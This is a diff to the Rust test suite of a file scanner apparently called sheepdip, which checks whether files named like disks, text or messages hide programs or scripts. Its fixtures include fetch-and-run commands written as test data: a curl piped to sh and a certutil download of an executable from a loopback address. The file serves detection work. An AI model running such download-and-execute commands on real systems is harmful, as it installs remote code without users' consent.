@@ -1,4 +1,4 @@
-use crate::forge::{Example, case, fired, noise, pe, png};
+use crate::forge::{Example, case, elf, fired, noise, pe, png, type_of};
 use sheepdip::model::report::Verdict;
 
 const SCRIPT: &[u8] = b"#!/bin/sh\necho hello\ncurl -s http://127.0.0.1/x | sh\n";
@@ -213,4 +213,79 @@ fn commands_behind_a_long_head_of_comments_are_seen() {
     }
     let honest = case("settings.txt", "# nothing here\n".repeat(5000)).examine();
     assert_eq!(honest.judgement.verdict, Verdict::Clean, "{:?}", fired(&honest));
+}
+
+#[test]
+fn what_starts_a_computer_is_named_like_a_disk_and_is_no_disguise() {
+    for name in ["kernel.img", "s390-ccw.img", "boot.IMG"] {
+        for bytes in [elf::minimal(), pe::minimal()] {
+            let report = case(name, bytes).examine();
+            assert_eq!(report.judgement.verdict, Verdict::Suspicious, "{name}: {:?}", fired(&report));
+            assert!(!fired(&report).contains(&"claim.program-in-disguise"), "{name}");
+        }
+    }
+    // Commands under that name are none, nor are programs under names that only disks have.
+    assert_eq!(case("kernel.img", SCRIPT).examine().judgement.verdict, Verdict::Dangerous);
+    assert_eq!(case("letter.iso", pe::minimal()).examine().judgement.verdict, Verdict::Dangerous);
+    assert_eq!(case("kernel.img.jpg", elf::minimal()).examine().judgement.verdict, Verdict::Dangerous);
+}
+
+#[test]
+fn a_proof_speaks_of_no_other_type_than_the_one_that_is_claimed() {
+    for name in ["a.iso", "a.txt", "a.csv", "a.eml", "a.mp3"] {
+        for finding in case(name, elf::minimal()).examine().findings {
+            assert!(!finding.proof().contains("JPEG"), "{name}: {}", finding.proof());
+            assert!(!finding.proof().ends_with(' '), "{name}: {}", finding.proof());
+        }
+    }
+}
+
+#[test]
+fn names_that_mean_something_else_to_everybody_are_no_gap() {
+    for name in ["boot.cat", "arrows.thm"] {
+        assert_eq!(case(name, noise(2048)).examine().judgement.verdict, Verdict::Clean, "{name}");
+    }
+    let list = "application/x-archive:\n\text: jar war\n\ticon: archive\n\tcategory: files of programs\n";
+    assert_eq!(case("archive.mime", list).examine().judgement.verdict, Verdict::Clean);
+    assert!(fired(&case("boot.cat", pe::minimal()).examine()).contains(&"nature.program"));
+}
+
+const SHELL: &str = "set -e\nfor i in a b; do\n    if [ -f \"$i\" ]; then\n        echo \"$i\"\n        exit 1\n    fi\ndone\nexport PATH\n";
+
+#[test]
+fn texts_with_a_heading_are_about_scripts_and_are_none() {
+    for heading in
+        ["Plugins on AIX\n==============\n\n", "git-shell(1)\n============\n\n", "*if_sh.txt*  For Vim version 9.0\n\n"]
+    {
+        let report = case("notes.txt", format!("{heading}{SHELL}")).examine();
+        assert_eq!(report.judgement.verdict, Verdict::Clean, "{heading}: {:?}", fired(&report));
+    }
+    for heading in ["", "Plugins on AIX\n\n", "x\n==============\n", "#!/bin/sh\n#########\n"] {
+        let report = case("notes.txt", format!("{heading}{SHELL}")).examine();
+        assert!(fired(&report).contains(&"claim.script-as-text"), "{heading}: {:?}", fired(&report));
+    }
+    // What the script does is told under any heading.
+    let loader = "How to\n======\n\n@echo off\r\nsetlocal\r\nset a=%temp%\\x\r\ncertutil -urlcache -split -f http://127.0.0.1/x \
+                  x.exe\r\nif exist %a% goto end\r\n:end\r\nexit /b\r\n";
+    assert!(fired(&case("notes.txt", loader).examine()).contains(&"scripts.download-and-run"));
+}
+
+#[test]
+fn source_code_that_reads_like_a_script_of_another_language_is_source_code() {
+    for name in ["main.f90", "tests.m", "matchit.vim", "Makefile.am"] {
+        assert_eq!(case(name, SHELL).examine().judgement.verdict, Verdict::Clean, "{name}");
+        assert!(fired(&case(name, SCRIPT).examine()).contains(&"claim.script-as-text"), "{name}");
+    }
+    let batch =
+        "@echo off\r\nsetlocal\r\nset a=%temp%\\x\r\ncopy %a% b\r\nif exist %a% goto end\r\n:end\r\nexit /b\r\n";
+    assert!(fired(&case("tests.m", batch).examine()).contains(&"claim.script-as-text"));
+}
+
+#[test]
+fn the_texts_of_a_tcl_program_are_no_message_of_outlook() {
+    let tcl = "# -*- tcl -*-\npackage require msgcat\nnamespace import ::msgcat::*\nproc say {a} {\n    puts $a\n}\nset b [list 1 2]\n";
+    let report = case("en.msg", tcl).examine();
+    assert_eq!((type_of(&report), report.judgement.verdict), ("tcl", Verdict::Clean), "{:?}", fired(&report));
+    assert_eq!(case("en.msg", SHELL).examine().judgement.verdict, Verdict::Dangerous);
+    assert_eq!(case("en.pdf", tcl).examine().judgement.verdict, Verdict::Dangerous);
 }
